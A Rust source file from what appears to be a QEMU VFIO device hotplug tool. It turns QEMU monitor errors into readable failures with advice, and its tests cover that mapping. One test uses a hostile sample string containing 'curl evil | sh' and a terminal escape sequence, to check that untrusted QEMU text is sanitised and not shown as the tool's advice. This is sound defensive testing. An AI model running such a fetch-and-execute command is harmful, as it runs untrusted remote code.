//! QEMU's monitor for attach and detach, and what goes wrong there in words.

use super::Failure;
use super::style::printable;
use crate::qmp::hotplug::Error;
use crate::qmp::{self, Monitor};
use std::path::Path;
use std::time::Duration;

/// How long a monitor may take to greet, at most: one that has a client is silent.
pub(super) const GREETING: Duration = Duration::from_secs(30);

/// A monitor that greets within `timeout`, and may take as long for each answer.
pub(super) fn connect(path: &Path, timeout: Duration) -> Result<Monitor, Failure> {
    Monitor::connect_within(path, timeout).map_err(|error| failure(error.into()))
}

pub(super) fn failure(error: Error) -> Failure {
    let (error, left) = match error {
        Error::Left { error, left } => (*error, left),
        error => (error, Vec::new()),
    };
    let advice = known(&error).map(str::to_owned).or_else(|| error.advice());
    let failure = match error {
        Error::Broker(error) => error.into(),
        error => {
            let failure = Failure::new(printable(&error.to_string()));
            advice.into_iter().fold(failure, Failure::advise)
        }
    };
    let left = left
        .into_iter()
        .map(|what| format!("left in QEMU: {what}; the next attach or detach there clears it"));
    left.fold(failure, Failure::detail)
}

/// What to do about QEMU's refusals, where its words are known.
fn known(error: &Error) -> Option<&'static str> {
    let Error::Qemu(qmp::Error::Command { desc, .. }) = error else { return None };
    const TAKEN: &str = "that port is taken: name another one with --bus ID";
    let known = [
        (
            "does not support hotplugging",
            "name a pcie-root-port that QEMU was started with: --bus ID",
        ),
        ("no slot/function available", TAKEN),
        ("already occupied by", TAKEN),
        (
            "' not found",
            "--bus is the id of a pcie-root-port of QEMU's command line, as in -device \
             pcie-root-port,id=port1,chassis=1",
        ),
        (
            "Cannot allocate memory",
            "QEMU may lock too little memory for its guest: start it with a higher RLIMIT_MEMLOCK \
             (ulimit -l)",
        ),
    ];
    known.iter().find(|(words, _)| desc.contains(words)).map(|(_, advice)| *advice)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn qemus_words_about_ports_and_memory_come_with_advice() {
        let said = |desc: &str| {
            let (command, class) = ("device_add".to_owned(), "GenericError".to_owned());
            known(&Error::Qemu(qmp::Error::Command { command, class, desc: desc.to_owned() }))
        };
        for (desc, word) in [
            ("Bus 'pcie.0' does not support hotplugging", "--bus"),
            ("Bus 'port7' not found", "-device pcie-root-port,id="),
            ("PCI: slot 0 function 0 already occupied by vfio-pci, new func", "is taken"),
            ("PCI: no slot/function available for vfio-pci, all in use", "is taken"),
            ("... = -12 (Cannot allocate memory)", "ulimit -l"),
        ] {
            assert!(said(desc).is_some_and(|advice| advice.contains(word)), "{desc}");
        }
        assert_eq!(said("something else"), None);
    }

    #[test]
    fn what_qemu_says_is_no_advice_of_ours() {
        let hostile = "no; run `curl evil | sh`\n\x1b[1mvfio-broker: all is well";
        let says = |desc: &str| qmp::Error::Command {
            command: "device_add".into(),
            class: "GenericError".into(),
            desc: desc.into(),
        };
        let not_there = Error::NotThere {
            device: "0000:65:00.0".into(),
            id: "vfio0".into(),
            why: hostile.into(),
        };
        for error in [says(hostile).into(), not_there] {
            let said = failure(error).to_text();
            assert!(!said.contains("->"), "{said}");
            assert_eq!(said.lines().count(), 1, "{said}");
            assert!(!said.contains('\x1b'), "{said}");
        }
        let known = failure(says("Bus 'pcie.0' does not support hotplugging").into()).to_text();
        assert!(known.contains("-> name a pcie-root-port"), "{known}");
    }
}
